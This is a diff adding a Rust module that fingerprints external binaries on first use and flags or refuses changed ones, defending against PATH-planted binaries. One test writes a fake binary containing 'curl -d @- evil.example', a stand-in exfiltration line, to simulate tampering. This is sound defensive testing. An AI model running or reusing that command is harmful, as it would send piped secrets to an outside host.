@@ -0,0 +1,266 @@
+//! Trust-on-first-use fingerprints of the external binaries.
+//!
+//! The tools Shadow Secret hands plaintext to (sops, age, vercel, the secret
+//! manager CLIs) are looked up in `PATH`, so a directory planted early in
+//! `PATH` could substitute a binary that exfiltrates what it decrypts. The
+//! first time one of [`TRACKED_PROGRAMS`] runs, the SHA-256 of the resolved
+//! executable is recorded in `~/.config/shadow-secret/binaries.json`; later
+//! runs compare against it. A changed binary prints a warning, or refuses to
+//! run in strict mode (`--strict-binaries`, implied by `--restricted`).
+//!
+//! After a legitimate upgrade, `shadow-secret trust-binaries` records the
+//! new fingerprints.
+
+use anyhow::{Context, Result};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::collections::{BTreeMap, HashSet};
+use std::ffi::OsStr;
+use std::path::{Path, PathBuf};
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::Mutex;
+
+/// Programs whose binaries are fingerprinted.
+pub const TRACKED_PROGRAMS: &[&str] = &["sops", "age", "age-keygen", "vercel", "aws", "op", "bws", "pass"];
+
+/// Fingerprint store in the state directory.
+pub const BINARIES_FILE: &str = "binaries.json";
+
+/// A binary as first seen.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct PinnedBinary {
+    /// Resolved path (symlinks followed)
+    pub path: PathBuf,
+    /// SHA-256 of the file, hex encoded
+    pub sha256: String,
+    /// RFC 3339 time it was recorded
+    pub recorded_at: String,
+}
+
+/// Outcome of checking a binary against the store.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Verdict {
+    /// Not seen before: now recorded
+    FirstUse(PinnedBinary),
+    Unchanged,
+    /// The binary differs from the recorded one
+    Changed {
+        recorded: PinnedBinary,
+        current: PinnedBinary,
+    },
+}
+
+/// Recorded binaries, by program name.
+#[derive(Debug, Default, Serialize, Deserialize)]
+#[serde(transparent)]
+pub struct BinaryStore {
+    pub binaries: BTreeMap<String, PinnedBinary>,
+}
+
+impl BinaryStore {
+    /// Default store location (`~/.config/shadow-secret/binaries.json`).
+    pub fn default_path() -> Result<PathBuf> {
+        Ok(crate::isolation::state_dir()?.join(BINARIES_FILE))
+    }
+
+    /// Load the store (empty if the file does not exist).
+    pub fn load(path: &Path) -> Result<Self> {
+        if !path.exists() {
+            return Ok(Self::default());
+        }
+        let content = std::fs::read_to_string(path).with_context(|| format!("Failed to read {:?}", path))?;
+        serde_json::from_str(&content).with_context(|| format!("Failed to parse {:?}", path))
+    }
+
+    /// Save the store.
+    pub fn save(&self, path: &Path) -> Result<()> {
+        std::fs::write(path, serde_json::to_string_pretty(self)?).with_context(|| format!("Failed to write {:?}", path))
+    }
+}
+
+static STRICT: AtomicBool = AtomicBool::new(false);
+
+/// Refuse to run changed binaries for the rest of the process.
+pub fn set_strict(strict: bool) {
+    STRICT.store(strict, Ordering::SeqCst);
+}
+
+/// Whether changed binaries are refused.
+pub fn is_strict() -> bool {
+    STRICT.load(Ordering::SeqCst)
+}
+
+/// Binaries already checked by this process (each is hashed once).
+static CHECKED: Mutex<Option<HashSet<PathBuf>>> = Mutex::new(None);
+
+/// Whether `program` (a name or path) is one of [`TRACKED_PROGRAMS`].
+pub fn is_tracked(program: &OsStr) -> bool {
+    let name = Path::new(program)
+        .file_stem()
+        .map(|stem| stem.to_string_lossy().to_string())
+        .unwrap_or_default();
+    TRACKED_PROGRAMS.contains(&name.as_str())
+}
+
+/// The executable `program` runs, symlinks followed.
+pub fn resolve(program: &OsStr) -> Option<PathBuf> {
+    which::which(program).ok()?.canonicalize().ok()
+}
+
+/// SHA-256 of the file at `path`, hex encoded.
+pub fn fingerprint(path: &Path) -> Result<String> {
+    let mut file = std::fs::File::open(path).with_context(|| format!("Failed to read {:?}", path))?;
+    let mut hasher = Sha256::new();
+    std::io::copy(&mut file, &mut hasher).with_context(|| format!("Failed to read {:?}", path))?;
+    Ok(hasher.finalize().iter().map(|byte| format!("{:02x}", byte)).collect())
+}
+
+/// Prefix of a fingerprint, for messages.
+fn short(sha256: &str) -> &str {
+    sha256.get(..16).unwrap_or(sha256)
+}
+
+fn pin(path: &Path) -> Result<PinnedBinary> {
+    Ok(PinnedBinary {
+        path: path.to_path_buf(),
+        sha256: fingerprint(path)?,
+        recorded_at: chrono::Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
+    })
+}
+
+/// Compare the binary at `path` with the one recorded for `name` in the
+/// store at `store_path`, recording it if there is none.
+pub fn check_in(store_path: &Path, name: &str, path: &Path) -> Result<Verdict> {
+    let current = pin(path)?;
+    let mut store = BinaryStore::load(store_path)?;
+    match store.binaries.get(name) {
+        Some(recorded) if recorded.sha256 == current.sha256 => Ok(Verdict::Unchanged),
+        Some(recorded) => Ok(Verdict::Changed {
+            recorded: recorded.clone(),
+            current,
+        }),
+        None => {
+            store.binaries.insert(name.to_string(), current.clone());
+            store.save(store_path)?;
+            Ok(Verdict::FirstUse(current))
+        }
+    }
+}
+
+/// Record the binaries currently in `PATH` for `names` (all of
+/// [`TRACKED_PROGRAMS`] if empty) as trusted, replacing what was recorded.
+///
+/// # Returns
+///
+/// The binaries recorded; programs not found in `PATH` are skipped.
+pub fn trust(store_path: &Path, names: &[String]) -> Result<Vec<(String, PinnedBinary)>> {
+    let names: Vec<String> = if names.is_empty() {
+        TRACKED_PROGRAMS.iter().map(|name| name.to_string()).collect()
+    } else {
+        names.to_vec()
+    };
+
+    let mut store = BinaryStore::load(store_path)?;
+    let mut trusted = Vec::new();
+    for name in names {
+        if !is_tracked(OsStr::new(&name)) {
+            anyhow::bail!("'{}' is not a tracked program ({})", name, TRACKED_PROGRAMS.join(", "));
+        }
+        let Some(path) = resolve(OsStr::new(&name)) else {
+            continue;
+        };
+        let binary = pin(&path)?;
+        store.binaries.insert(name.clone(), binary.clone());
+        trusted.push((name, binary));
+    }
+    store.save(store_path)?;
+    Ok(trusted)
+}
+
+/// Check `program` before it runs (see the module documentation). Untracked
+/// programs and programs not found in `PATH` pass.
+///
+/// # Errors
+///
+/// In strict mode, fails if the binary changed or cannot be checked.
+pub fn verify(program: &OsStr) -> Result<()> {
+    if !is_tracked(program) {
+        return Ok(());
+    }
+    let Some(path) = resolve(program) else {
+        return Ok(());
+    };
+    let name = Path::new(program).file_stem().unwrap_or(program).to_string_lossy().to_string();
+
+    let mut checked = CHECKED.lock().unwrap_or_else(|e| e.into_inner());
+    let checked = checked.get_or_insert_with(HashSet::new);
+    if checked.contains(&path) {
+        return Ok(());
+    }
+
+    let verdict = BinaryStore::default_path().and_then(|store_path| check_in(&store_path, &name, &path));
+    match verdict {
+        Ok(Verdict::FirstUse(binary)) => {
+            crate::say_err!("🔏 Trusting {} on first use: {} (sha256 {})", name, binary.path.display(), short(&binary.sha256));
+        }
+        Ok(Verdict::Unchanged) => {}
+        Ok(Verdict::Changed { recorded, current }) => {
+            let message = format!(
+                "{} changed since first use: {} (sha256 {}, {}) is now {} (sha256 {}). \
+                 If you upgraded it, run 'shadow-secret trust-binaries {}'",
+                name,
+                recorded.path.display(),
+                short(&recorded.sha256),
+                recorded.recorded_at,
+                current.path.display(),
+                short(&current.sha256),
+                name
+            );
+            if is_strict() {
+                anyhow::bail!("Refusing to run {}", message);
+            }
+            crate::say_err!("⚠️  {}", message);
+        }
+        Err(e) if is_strict() => return Err(e.context(format!("Cannot verify the {} binary", name))),
+        Err(e) => crate::say_err!("⚠️  Cannot verify the {} binary: {:#}", name, e),
+    }
+    // A refused binary is checked again on its next run
+    checked.insert(path);
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_check_in_records_first_use_then_detects_changes() {
+        let temp_dir = tempfile::TempDir::new().unwrap();
+        let store = temp_dir.path().join(BINARIES_FILE);
+        let binary = temp_dir.path().join("sops");
+        std::fs::write(&binary, "#!/bin/sh\necho sops 3.8.1\n").unwrap();
+
+        let Verdict::FirstUse(pinned) = check_in(&store, "sops", &binary).unwrap() else {
+            panic!("expected first use");
+        };
+        assert_eq!(pinned.sha256.len(), 64);
+        assert_eq!(check_in(&store, "sops", &binary).unwrap(), Verdict::Unchanged);
+
+        std::fs::write(&binary, "#!/bin/sh\ncurl -d @- evil.example\n").unwrap();
+        let Verdict::Changed { recorded, current } = check_in(&store, "sops", &binary).unwrap() else {
+            panic!("expected a change");
+        };
+        assert_eq!(recorded, pinned);
+        assert_ne!(current.sha256, pinned.sha256);
+
+        // The recorded fingerprint is kept until trusted again
+        assert!(matches!(check_in(&store, "sops", &binary).unwrap(), Verdict::Changed { .. }));
+    }
+
+    #[test]
+    fn test_tracked_programs() {
+        assert!(is_tracked(OsStr::new("sops")));
+        assert!(is_tracked(OsStr::new("/usr/local/bin/vercel")));
+        assert!(!is_tracked(OsStr::new("sh")));
+    }
+}